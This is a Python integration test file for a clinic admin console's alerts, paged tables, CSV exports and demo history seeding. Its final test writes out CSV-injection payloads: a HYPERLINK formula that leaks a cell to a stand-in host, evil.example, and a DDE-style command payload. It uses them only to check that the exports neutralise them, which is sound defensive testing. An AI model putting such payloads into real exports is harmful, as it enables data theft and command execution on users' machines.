"""Alert facts from the database, the console's paged tables and their CSV, the demo history."""

import csv
import io
from dataclasses import replace
from datetime import timedelta

import pytest
from sqlalchemy import text

from core.actor import SYSTEM
from core.db import unit_of_work
from core.errors import ValidationFailed
from core.metrics import alerts, kpis, listings
from core.seed_history import seed_history
from tests.integration.metrics.conftest import NOW, paris


def test_alert_facts_of_the_clinic(clinic):
    facts = alerts.gather_facts(SYSTEM, now=NOW, failed_jobs=0)
    assert (facts.payments_failed_today, facts.payments_succeeded_today) == (1, 3)  # A2, the plan, A5; not credit
    assert facts.top_failure_code == "card_declined"
    assert facts.no_show_week == (1, 3)  # A3 of A1, A3, A6 (A2 and A5 are still to come)
    assert facts.stuck_pending == 0 and facts.doctors_offline == 0


def test_payment_failures_raise_a_critical_alert(clinic):
    with unit_of_work(SYSTEM) as uow:
        for i in range(5):
            uow.session.execute(text("""INSERT INTO payments (user_id, kind, provider, status, amount_cents,
                                            failure_code, created_at) VALUES (:u, 'visit', 'stripe', 'failed', 3500,
                                            'insufficient_funds', :c)"""),
                                {"u": clinic.user("P4"), "c": NOW - timedelta(minutes=i + 1)})
    feed = alerts.alert_feed(SYSTEM, now=NOW, failed_jobs=0)
    critical = [a for a in feed if a.severity == "critical"]
    assert [a.code for a in critical] == ["payment_failures"]
    assert "insufficient_funds" in critical[0].detail and critical[0].action


def test_a_stuck_hold_and_an_offline_doctor(clinic):
    with unit_of_work(SYSTEM) as uow:
        uow.session.execute(text("""INSERT INTO appointments (doctor_id, patient_id, start_at, end_at, status,
                                        hold_expires_at) VALUES (:d, :p, :s, :s + interval '30 minutes', 'pending', :h)"""),
                            {"d": clinic.doctors["D1"], "p": clinic.patients["P4"][1], "s": paris(31, 18),
                             "h": NOW - timedelta(minutes=6)})
        uow.session.execute(text("UPDATE doctors SET online = false WHERE id = :d"), {"d": clinic.doctors["D2"]})
    feed = {a.code: a for a in alerts.alert_feed(SYSTEM, now=NOW, failed_jobs=0)}
    assert feed["pending_stuck"].severity == "warning" and "worker" in feed["pending_stuck"].action
    assert feed["doctors_offline"].severity == "info"


def test_a_doctor_without_free_time_is_named(clinic, at_now):
    with unit_of_work(SYSTEM) as uow:  # D1 turns off every slot of the next 7 days: no template day left
        for day in range(8):
            for half in range(48):
                start = NOW.replace(hour=0, minute=0) + timedelta(days=day, minutes=30 * half)
                uow.session.execute(text("""INSERT INTO slots (doctor_id, start_at, end_at, is_available)
                    VALUES (:d, :s, :s + interval '30 minutes', false) ON CONFLICT (doctor_id, start_at)
                    DO UPDATE SET is_available = false"""), {"d": clinic.doctors["D1"], "s": start})
    found = alerts.gather_facts(SYSTEM, now=NOW, failed_jobs=0).doctors_without_availability
    assert any(name.startswith("Dr D1") for name in found)
    assert not any(name.startswith("Dr D2") for name in found)


def test_appointments_table_pages_on_the_server(clinic):
    first = listings.page_of(SYSTEM, "appointments", "week", 1, page_size=4, now=NOW)
    assert (first.total, first.pages, len(first.rows)) == (5, 2, 4)  # A1–A4 and A6 (A5 starts on the 31st)
    second = listings.page_of(SYSTEM, "appointments", "week", 2, page_size=4, now=NOW)
    assert len(second.rows) == 1 and second.first_row == 5 and second.last_row == 5
    assert not {r["id"] for r in first.rows} & {r["id"] for r in second.rows}
    beyond = listings.page_of(SYSTEM, "appointments", "week", 99, page_size=4, now=NOW)
    assert beyond.page == 2  # clamped to the last page
    starts = [r["start_at"] for r in first.rows + second.rows]
    assert starts == sorted(starts, reverse=True)


def test_tables_of_the_period(clinic):
    payments = listings.page_of(SYSTEM, "payments", "today", now=NOW)
    assert payments.total == 5 and {r["status"] for r in payments.rows} >= {"failed", "partially_refunded"}
    patients = listings.page_of(SYSTEM, "patients", "today", now=NOW)
    names = [r["patient"] for r in patients.rows]
    assert set(names) == {"Patient P1", "Patient P2", "Patient P3", "Patient P5"}
    p2 = next(r for r in patients.rows if r["patient"] == "Patient P2")
    assert p2["appointments"] == 1 and p2["paid_cents"] == 3500 + 2000
    doctors = listings.page_of(SYSTEM, "doctors", "today", page_size=500, now=NOW)
    d1 = next(r for r in doctors.rows if r["id"] == clinic.doctors["D1"])
    assert (d1["booked"], d1["completed"], d1["cancelled"]) == (2, 1, 1)


def test_table_csv_has_every_row_with_raw_values(clinic):
    rows = list(csv.DictReader(io.StringIO(listings.listing_csv(SYSTEM, "payments", "today", now=NOW))))
    assert len(rows) == 5
    assert list(rows[0]) == ["id", "created_at", "account", "kind", "provider", "status", "amount_cents",
                             "refunded_cents", "failure_code"]
    refunded = next(r for r in rows if r["status"] == "partially_refunded")
    assert refunded["amount_cents"] == "3500" and refunded["refunded_cents"] == "1500"
    assert refunded["created_at"] == "2026-03-30T07:01:00+00:00"


def test_unknown_table_is_a_validation_error(db):
    with pytest.raises(ValidationFailed):
        listings.page_of(SYSTEM, "secrets", "today")


def test_demo_history_is_consistent_with_the_kpis(db, make_user):
    for i in range(2):
        make_user("doctor", full_name=f"Dr History {i}")
    report = seed_history(1, per_doctor_day=5)
    assert not report.skipped and report.appointments > 100 and report.patients >= 50
    assert seed_history(1).skipped  # a second run adds nothing
    with unit_of_work(SYSTEM) as uow:
        s = uow.session
        overlapping = s.execute(text("""SELECT count(*) FROM appointments a JOIN appointments b
            ON a.doctor_id = b.doctor_id AND a.id < b.id AND abs(extract(epoch FROM a.start_at - b.start_at)) < 2700
            WHERE a.status IN ('pending', 'paid', 'confirmed') AND b.status IN ('pending', 'paid', 'confirmed')""")
                                ).scalar_one()
        paid_events = s.execute(text("SELECT count(*) FROM funnel_events WHERE step = 'paid'")).scalar_one()
        refunded = s.execute(text("""SELECT count(*) FROM payments p JOIN appointments a ON a.id = p.appointment_id
            WHERE a.status = 'cancelled' AND p.status NOT IN ('refunded', 'failed')""")).scalar_one()
        future_booked_in_future = s.execute(text(
            "SELECT count(*) FROM appointments WHERE created_at > now()")).scalar_one()
    assert overlapping == 0 and refunded == 0 and future_booked_in_future == 0
    month = kpis.overview(SYSTEM, "month").kpis["value"].to_dict()
    assert 0 < month["booked"] <= paid_events
    assert 0.02 < month["noShowRate"] < 0.12 and 0.6 < month["bookingConversion"] < 0.95
    assert month["arpa"] > 2000 and 0 < month["doctorUtilisation"] < 1


def test_the_bulk_history_load_keeps_the_schema_and_its_guards(server_url):
    """`seed_history(bulk=owner)` (the KPI benchmark's million appointments): triggers and foreign
    keys are off only inside its transaction, every index it dropped is rebuilt as the migrations
    made it, and the rows keep the rules those guards enforce (no two active bookings of a doctor
    within 45 minutes, a payment per paid visit, refunds of the cancelled)."""
    from sqlalchemy import create_engine

    from tests.conftest import create_fresh_database, drop_database, upgrade
    from tests.resources import db_name

    name = f"{db_name()}_bulk"
    url = create_fresh_database(server_url, name)
    owner = create_engine(url, isolation_level="AUTOCOMMIT")
    try:
        upgrade(url)
        indexes = "SELECT tablename, indexdef FROM pg_indexes WHERE schemaname = 'public' ORDER BY 1, 2"
        with owner.connect() as conn:
            conn.execute(text("""INSERT INTO users (email, role, full_name, password_hash)
                                 SELECT 'bulk' || g || '@tests.doktu.eu', 'doctor', 'Dr Bulk ' || g, 'x'
                                   FROM generate_series(1, 2) g"""))
            conn.execute(text("INSERT INTO doctors (user_id, display_name, specialty) "
                              "SELECT id, full_name, 'General practice' FROM users"))
            before = conn.execute(text(indexes)).all()
        report = seed_history(1, per_doctor_day=5, bulk=owner)
        assert not report.skipped and report.appointments > 100 and report.funnel_events > report.appointments
        assert seed_history(1, bulk=owner).skipped
        with owner.connect() as conn:
            assert conn.execute(text(indexes)).all() == before
            assert conn.execute(text("SHOW session_replication_role")).scalar_one() == "origin"
            overlapping = conn.execute(text("""SELECT count(*) FROM appointments a JOIN appointments b
                ON a.doctor_id = b.doctor_id AND a.id < b.id AND abs(extract(epoch FROM a.start_at - b.start_at)) < 2700
                WHERE a.status IN ('pending', 'paid', 'confirmed') AND b.status IN ('pending', 'paid', 'confirmed')"""
                                            )).scalar_one()
            unpaid = conn.execute(text("""SELECT count(*) FROM appointments a WHERE a.status IN ('confirmed', 'completed')
                AND NOT EXISTS (SELECT 1 FROM payments p WHERE p.appointment_id = a.id AND p.status = 'succeeded')"""
                                       )).scalar_one()
            assert overlapping == 0 and unpaid == 0
            # The double-booking guard is on again: a second booking next to a confirmed one is refused.
            with pytest.raises(Exception, match="within 45 minutes"):
                conn.execute(text("""INSERT INTO appointments (doctor_id, patient_id, start_at, end_at, status,
                                                               price_cents)
                    SELECT doctor_id, patient_id, start_at + interval '15 minutes', end_at, 'confirmed', price_cents
                      FROM appointments WHERE status = 'confirmed' LIMIT 1"""))
    finally:
        owner.dispose()
        drop_database(server_url, name)


def test_seed_command_takes_history(app, db):
    from portals.cli import cli

    result = app.test_cli_runner().invoke(cli, ["db", "seed", "--history", "1"])
    assert result.exit_code == 0, result.output
    assert "History: 1 months" in result.output


def test_on_the_demo_every_funnel_step_is_at_most_the_one_before(app, db):
    """Issue 20, "Done when": what `doktu demo` seeds (the demo, then 3 months of history), read by
    the console's funnel for every period: each step at most the one before, and the funnel alive."""
    from portals.cli import cli

    result = app.test_cli_runner().invoke(cli, ["db", "seed", "--history", "3"])
    assert result.exit_code == 0, result.output
    for range_name in ("today", "yesterday", "week", "month"):
        people = kpis.funnel(SYSTEM, range_name).steps["people"].tolist()
        assert people == sorted(people, reverse=True), (range_name, people)
        if range_name == "month":
            assert people[0] > people[-1] > 0


def test_alert_facts_snapshot_round_trips_and_failed_jobs_stay_fresh(clinic, at_now, app):
    first = alerts.gather_facts(SYSTEM, failed_jobs=0)
    again = alerts.gather_facts(SYSTEM, failed_jobs=4)
    assert again == replace(first, failed_jobs=4)
    assert again.no_show_week == (1, 3) and isinstance(again.no_show_week, tuple)
    assert [a.code for a in alerts.evaluate(again)] == ["jobs_failing"]


HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Open record")'


def test_a_patient_named_like_a_formula_is_text_in_every_csv(clinic):
    """SPEC §22: cells starting with = + - @ are neutralised in the table and alert exports."""
    from portals.admin.dash_app import alerts_csv

    with unit_of_work(SYSTEM) as uow:
        uow.session.execute(text("UPDATE users SET full_name = :n WHERE id = :u"), {"n": HYPERLINK, "u": clinic.user("P2")})
    for table in ("patients", "appointments"):
        rows = list(csv.DictReader(io.StringIO(listings.listing_csv(SYSTEM, table, "today", now=NOW))))
        named = [r["patient"] for r in rows if "HYPERLINK" in r["patient"]]
        assert named and all(cell == "'" + HYPERLINK for cell in named), table
    feed = [replace(alerts.alert_feed(SYSTEM, now=NOW, failed_jobs=0)[0], title="@SUM(1+1)*cmd|' /C calc'!A0")]
    [row] = list(csv.DictReader(io.StringIO(alerts_csv(feed))))
    assert row["title"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
